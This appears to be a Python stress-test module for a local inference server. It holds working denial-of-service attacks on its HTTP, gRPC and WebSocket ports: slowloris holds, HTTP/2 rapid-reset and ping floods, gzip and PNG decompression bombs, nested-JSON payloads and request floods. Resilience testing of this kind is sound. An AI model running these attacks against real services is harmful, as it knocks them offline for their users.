"""Attacks on the ports of a server; each goes on until it is stopped.

`attackers.py` runs them. Each is a function of a `Target`; ATTACKS has them by name. They are what
clients with a key that may predict can send: the worst that a server lets in.
"""

from __future__ import annotations

import io
import json
import socket
import struct
import time
import zlib
from base64 import b64encode
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass
from itertools import count

import grpc
from PIL import Image
from tritonclient.grpc import service_pb2

_MB = 1 << 20
_SERVICE = "/inference.GRPCInferenceService"
# HTTP/2 (RFC 9113): what a client says first, and kinds and flags of frames.
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING = 0, 1, 3, 4, 6
_END_HEADERS = 4


@dataclass(frozen=True)
class Target:
    """The ports of a server, and a key that may predict."""

    http: int
    grpc: int
    metrics: int
    key: str
    model: str

    def head(self, method: str, path: str, *lines: str) -> bytes:
        """The head of a request with the key."""
        head = (f"{method} {path} HTTP/1.1", "Host: localhost", f"X-Api-Key: {self.key}", *lines)
        return "\r\n".join((*head, "", "")).encode()

    def post(self, path: str, body: bytes, kind: str = "application/json", *lines: str) -> bytes:
        """A whole request with a body."""
        size = f"Content-Length: {len(body)}"
        return self.head("POST", path, f"Content-Type: {kind}", size, *lines) + body

    @property
    def predict(self) -> str:
        """Where images are sent."""
        return f"/v1/models/{self.model}/predict"

    @property
    def infer(self) -> str:
        """Where tensors are sent."""
        return f"/v2/models/{self.model}/infer"


@contextmanager
def connected(port: int) -> Iterator[socket.socket]:
    """A connection; what the server does to it ends nothing but what is done with it."""
    with (
        suppress(OSError),
        socket.create_connection(("127.0.0.1", port), timeout=60) as connection,
    ):
        yield connection


def answered(port: int, request: bytes) -> None:
    """Send a request, and read until the server closes, or is silent for a while."""
    with connected(port) as connection:
        connection.sendall(request)
        connection.settimeout(10)
        while connection.recv(_MB):
            pass


def again(port: int, request: bytes) -> None:
    """Send a request that is the last of its connection, again and again."""
    while True:
        answered(port, request.replace(b"\r\n", b"\r\nConnection: close\r\n", 1))


def held(port: int, sent: bytes, connections: int = 300) -> None:
    """Open connections that send a beginning, and then a byte now and then."""
    while True:
        with ExitStack() as stack:
            opened = []
            for _ in range(connections):
                with suppress(OSError):
                    address = ("127.0.0.1", port)
                    opened.append(stack.enter_context(socket.create_connection(address, 5)))
                    opened[-1].sendall(sent)
            for _ in range(10):
                time.sleep(1)
                for connection in opened:
                    with suppress(OSError):
                        connection.send(b"x")


def unread(port: int, request: bytes, connections: int = 20) -> None:
    """Ask on many connections, and read no answer."""
    while True:
        with ExitStack() as stack:
            for _ in range(connections):
                with suppress(OSError):
                    connection = socket.create_connection(("127.0.0.1", port), 5)
                    stack.enter_context(connection).setblocking(False)
                    for _ in range(200):
                        connection.send(request)
            time.sleep(3)


def gone(port: int, request: bytes) -> None:
    """Ask, and leave before the answer."""
    while True:
        with connected(port) as connection:
            connection.sendall(request)


def picture(side: int, kind: str) -> bytes:
    """An image that is small as a file and large once decoded."""
    out = io.BytesIO()
    Image.new("RGB", (side, side), (90, 120, 200)).save(out, kind)
    return out.getvalue()


def bomb() -> bytes:
    """A PNG that claims 60,000 x 60,000."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    pixels = chunk(b"IDAT", zlib.compress(bytes(100_000)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + pixels


def many_images(target: Target) -> bytes:
    """A request with 64 images of a megapixel."""
    image = {"data": b64encode(picture(1000, "JPEG")).decode()}
    return target.post(target.predict, json.dumps({"images": [image] * 64}).encode())


def one_byte_chunks(target: Target) -> bytes:
    """A request whose body comes in a million chunks."""
    head = target.head(
        "POST", target.predict, "Content-Type: image/jpeg", "Transfer-Encoding: chunked"
    )
    return head + b"1\r\nx\r\n" * 1_000_000 + b"0\r\n\r\n"


def long_arrays(target: Target) -> bytes:
    """A request with 60,000 tensors of one number."""
    inputs = b",".join([b'{"name":"x","shape":[1],"datatype":"FP32","data":[1]}'] * 60_000)
    return target.post(target.infer, b'{"inputs":[' + inputs + b"]}")


def gzip_bomb(target: Target) -> bytes:
    """A request whose body is 500 MB once it is unpacked."""
    packed = zlib.compress(bytes(500 * _MB), 1, 31)
    return target.post(target.predict, packed, "image/jpeg", "Content-Encoding: gzip")


# gRPC


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def call_head(target: Target, method: str) -> bytes:
    """The headers of a call, as literals that no table keeps (RFC 7541, section 6.2.2)."""
    fields = {
        **{":method": "POST", ":scheme": "http", ":path": f"{_SERVICE}/{method}"},
        **{":authority": "localhost", "content-type": "application/grpc", "te": "trailers"},
        "x-api-key": target.key,
    }
    text = (bytes([len(each)]) + each.encode() for pair in fields.items() for each in pair)
    pairs = zip(text, text, strict=True)
    return b"".join(b"\0" + name + value for name, value in pairs)


def calls_that_are_reset(target: Target) -> None:
    """Begin calls, and end each at once."""
    head = call_head(target, "ModelInfer")
    while True:
        with connected(target.grpc) as connection:
            connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
            for first in count(1, 200):
                connection.sendall(
                    b"".join(
                        frame(_HEADERS, _END_HEADERS, stream, head)
                        + frame(_RESET, 0, stream, b"\0\0\0\x08")
                        for stream in range(first, first + 200, 2)
                    )
                )


def pings(target: Target) -> None:
    """Send pings of HTTP/2, and read no answer."""
    while True:
        with connected(target.grpc) as connection:
            connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
            while True:
                connection.sendall(frame(_PING, 0, 0, bytes(8)) * 1000)


def half_messages(target: Target) -> None:
    """Begin 100 messages of 60 MB a connection, all that it may, and send no more of them."""
    head, message = call_head(target, "ModelInfer"), b"\0" + struct.pack(">I", 60 * _MB)
    begun = b"".join(
        frame(_HEADERS, _END_HEADERS, stream, head) + frame(_DATA, 0, stream, message)
        for stream in range(1, 201, 2)
    )
    held(target.grpc, _PREFACE + frame(_SETTINGS, 0, 0) + begun, 20)


def channel(target: Target) -> grpc.Channel:
    """A channel that shares its connection with no other."""
    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    return grpc.insecure_channel(f"127.0.0.1:{target.grpc}", options)


def messages(target: Target, message: bytes) -> None:
    """Stream a message again and again, and read no answer."""
    metadata = [("x-api-key", target.key)]
    while True:
        with suppress(grpc.RpcError), channel(target) as opened:
            call = opened.stream_stream(f"{_SERVICE}/ModelStreamInfer")
            answers = call(iter([message] * 20_000), metadata=metadata, timeout=10)
            time.sleep(9)
            answers.cancel()


def large_messages(target: Target) -> None:
    """Many tensors of a name that no model has, in messages of 30 MB."""
    request = service_pb2.ModelInferRequest(model_name=target.model)
    for _ in range(300_000):
        request.inputs.add(name="x" * 20, datatype="FP32", shape=[1] * 20)
    message, metadata = request.SerializeToString(), [("x-api-key", target.key)]
    while True:
        with suppress(grpc.RpcError), channel(target) as opened:
            opened.unary_unary(f"{_SERVICE}/ModelInfer")(message, metadata=metadata, timeout=30)


# WebSockets


def accepted(target: Target) -> bytes:
    """The request for a WebSocket of frames."""
    return target.head(
        "GET",
        f"/v1/models/{target.model}/stream",
        *("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"),
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    )


def message(opcode: int, payload: bytes, *, last: bool = True) -> bytes:
    """A frame of a client, masked by zeros (RFC 6455, section 5.2)."""
    size = len(payload)
    if size < 126:
        length = bytes([0x80 | size])
    elif size < 65_536:
        length = bytes([0x80 | 126]) + struct.pack(">H", size)
    else:
        length = bytes([0x80 | 127]) + struct.pack(">Q", size)
    return bytes([opcode | (0x80 if last else 0)]) + length + bytes(4) + payload


def socket_flood(target: Target, sent: bytes) -> None:
    """Open a WebSocket, send the same again and again, and read nothing."""
    while True:
        with connected(target.http) as connection:
            connection.sendall(accepted(target))
            connection.recv(65_536)
            while True:
                connection.sendall(sent)


def sockets(target: Target) -> None:
    """Open as many WebSockets as there may be."""
    held(target.http, accepted(target), 600)


Attack = Callable[[Target], None]
_SMALL = b"\xff\xd8\xff"  # the beginning of a JPEG
_PIPELINE = 20_000

ATTACKS: dict[str, Attack] = {
    "HTTP: half heads": lambda to: held(to.http, b"GET /v1/models HTTP/1.1\r\nX-Slow: "),
    "HTTP: bodies that drip": lambda to: held(to.http, to.post(to.predict, bytes(_MB))[:400]),
    "HTTP: chunks of one byte": lambda to: again(to.http, one_byte_chunks(to)),
    "HTTP: 20,000 requests behind one another": lambda to: answered_always(
        to.http, to.head("GET", "/v2/health/live") * _PIPELINE
    ),
    "HTTP: answers that nobody reads": lambda to: unread(
        to.http, to.head("GET", f"/v1/models/{to.model}")
    ),
    "HTTP: clients that leave": lambda to: gone(
        to.http, to.post(to.predict, picture(2000, "PNG"), "image/png")
    ),
    "HTTP: JSON of empty lists": lambda to: again(
        to.http, to.post(to.predict, b'{"images":[' + b"[]," * 20 * _MB + b"[]]}")
    ),
    "HTTP: JSON of nested lists": lambda to: again(
        to.http, to.post(to.predict, b'{"images":' + b"[" * 60 * _MB)
    ),
    "HTTP: JSON of short arrays": lambda to: again(to.http, long_arrays(to)),
    "HTTP: a gzip of 500 MB": lambda to: again(to.http, gzip_bomb(to)),
    "HTTP: a PNG that claims 3.6 gigapixels": lambda to: again(
        to.http, to.post(to.predict, bomb(), "image/png")
    ),
    "HTTP: 64 images a request": lambda to: again(to.http, many_images(to)),
    "HTTP: images of 64 megapixels": lambda to: again(
        to.http, to.post(to.predict, picture(8000, "PNG"), "image/png")
    ),
    "gRPC: connections that say nothing": lambda to: held(to.grpc, b"PRI"),
    "gRPC: calls that are reset": calls_that_are_reset,
    "gRPC: pings": pings,
    "gRPC: messages that stop": half_messages,
    "gRPC: streams that nobody reads": lambda to: messages(
        to, service_pb2.ModelInferRequest(model_name=to.model).SerializeToString()
    ),
    "gRPC: 300,000 tensors a message": large_messages,
    "metrics: half heads": lambda to: held(to.metrics, b"GET /metrics HTTP/1.1\r\nX-Slow: "),
    "metrics: 20,000 requests behind one another": lambda to: answered_always(
        to.metrics, to.head("GET", "/metrics") * _PIPELINE
    ),
    "WebSocket: as many as may be": sockets,
    "WebSocket: pings": lambda to: socket_flood(to, message(9, b"x") * 1000),
    "WebSocket: messages in pieces of a byte": lambda to: socket_flood(
        to, message(2, b"x", last=False) + message(0, b"x", last=False) * 1000
    ),
    "WebSocket: frames that are no images": lambda to: socket_flood(to, message(2, _SMALL) * 1000),
}


def answered_always(port: int, request: bytes) -> None:
    """Send a request, read all that is answered, and begin anew."""
    while True:
        answered(port, request)


def attack_by_name(name: str, target: Target) -> None:
    """Run one of ATTACKS in a process of its own, until it is killed."""
    ATTACKS[name](target)
